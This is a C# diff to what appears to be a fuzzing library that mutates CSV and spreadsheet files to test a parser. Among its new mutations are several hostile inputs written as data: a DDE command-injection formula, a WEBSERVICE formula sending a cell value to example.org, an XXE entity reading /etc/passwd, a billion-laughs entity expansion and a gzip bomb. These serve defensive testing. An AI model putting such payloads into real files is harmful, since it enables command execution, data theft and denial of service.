@@ -23,8 +23,9 @@ public static class Mutations
             "swap-columns",
         "utf16", "latin1", "add-mark", "cr-only", "nul-bytes", "stray-quote", "other-delimiter", "gzip",
             "gzip-truncated",
-        "wide-row", "repeat-all", "member-truncate", "member-flip", "member-bomb", "member-text", "formula",
-            "external-link", "doctype",
+        "wide-row", "wide-header", "repeat-all", "double-rows", "shuffle-columns", "utf16-big-endian", "encoded-twice",
+            "text-formula", "gzip-bomb", "gzip-twice", "member-truncate", "member-flip", "member-bomb", "member-many",
+            "member-text", "formula", "external-link", "doctype", "entities",
     ];
 
     /// <summary>Names of all kinds; those that do not fit a file fall back to flipped bits.</summary>
@@ -46,8 +47,10 @@ public static class Mutations
         "zero-block" => Zero(bytes, random),
         "splice" => [.. bytes[..random.Next(bytes.Length)], .. bytes[random.Next(bytes.Length)..]],
         "insert" => Insert(bytes, random),
-        "duplicate-lines" or "drop-lines" or "swap-columns" or "stray-quote" or "wide-row" =>
-            Lines(kind, bytes, random),
+        "duplicate-lines" or "drop-lines" or "swap-columns" or "stray-quote" or "wide-row" or "wide-header"
+            or "double-rows" or "shuffle-columns" or "text-formula" => Lines(kind, bytes, random),
+        "utf16-big-endian" => IsText(bytes) ? [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes(Encoding.UTF8.GetString(bytes))] : null,
+        "encoded-twice" => IsText(bytes) ? Encoding.UTF8.GetBytes(Encoding.Latin1.GetString(bytes)) : null,
         "utf16" => IsText(bytes) ? Encoding.Unicode.GetBytes(Encoding.Latin1.GetString(bytes)) : null,
         "latin1" => IsText(bytes) ? Encoding.Latin1.GetBytes(Encoding.UTF8.GetString(bytes)) : null,
         "add-mark" => [0xEF, 0xBB, 0xBF, .. bytes],
@@ -57,6 +60,8 @@ public static class Mutations
         "other-delimiter" => IsText(bytes) ? [.. bytes.Select(static value => value == ',' ? (byte)';' : value)] : null,
         "gzip" => Gzip(bytes),
         "gzip-truncated" => Gzip(bytes) is var packed ? packed[..random.Next(packed.Length)] : null,
+        "gzip-bomb" => Gzip([.. bytes.AsSpan(0, Math.Min(bytes.Length, 1 << 20)), .. new byte[48 << 20]]),
+        "gzip-twice" => Gzip(Gzip(bytes)),
         "repeat-all" => bytes.Length < 1 << 20 ? [.. bytes, .. bytes, .. bytes] : null,
         _ => Package(kind, bytes, random),
     };
@@ -128,6 +133,28 @@ public static class Mutations
             case "wide-row":
                 lines.Insert(at, new string(',', 1_000_000));
                 break;
+            case "wide-header":
+                at = random.Next(Math.Min(20, lines.Count));
+                lines[at] = lines[at].TrimEnd('\r') + new string(',', 1_000_000);
+                break;
+            case "double-rows":
+                lines = [.. lines.SelectMany(static line => (string[])[line, line])];
+                break;
+            case "shuffle-columns":
+                var order = Enumerable.Range(0, lines.Max(static line => line.Count(static c => c == ',')) + 1).ToArray();
+                random.Shuffle(order);
+                lines = [.. lines.Select(line => Shuffled(line.TrimEnd('\r').Split(','), order))];
+                break;
+            case "text-formula":
+                for (var i = 0; i < 1 + random.Next(20); i++)
+                {
+                    at = random.Next(lines.Count);
+                    var fields = lines[at].Split(',');
+                    fields[random.Next(fields.Length)] = random.Next(2) == 0 ? "=cmd|' /C calc'!A0" : "@SUM(1+1)*9";
+                    lines[at] = string.Join(',', fields);
+                }
+
+                break;
             default:
                 lines = [.. lines.Select(line => string.Join(',', line.Split(',').Reverse()))];
                 break;
@@ -135,6 +162,9 @@ public static class Mutations
 
         return Encoding.Latin1.GetBytes(string.Join('\n', lines));
     }
+
+    private static string Shuffled(string[] fields, int[] order) =>
+        string.Join(',', order.Where(at => at < fields.Length).Select(at => fields[at]));
 
     private static byte[] Gzip(byte[] bytes)
     {
@@ -175,6 +205,11 @@ public static class Mutations
                 using var writer = target.CreateEntry(entry.FullName, CompressionLevel.Fastest).Open();
                 writer.Write(entry.FullName == chosen && body.Length > 0 ? Member(kind, body, random) : body);
             }
+
+            for (var i = 0; kind == "member-many" && i < 12_000; i++)
+            {
+                target.CreateEntry($"xl/more/{i}.xml", CompressionLevel.NoCompression);
+            }
         }
 
         return result.ToArray();
@@ -187,6 +222,8 @@ public static class Mutations
         "member-text" => Replace(body, "<v>", $"<v>{new string('9', 1 + random.Next(5000))}", random),
         "formula" => Replace(body, "<v>", "<f>WEBSERVICE(\"http://example.org/\"&amp;A1)</f><v>", random),
         "external-link" => Replace(body, "<v>", "<f>[9]Other!A1</f><v>", random),
+        "member-many" => body,
+        "entities" => Replace(body, "?>", "?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>", random),
         "doctype" => Replace(body, "?>", "?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", random),
         _ => Flip(body, random, 1 + random.Next(20)),
     };
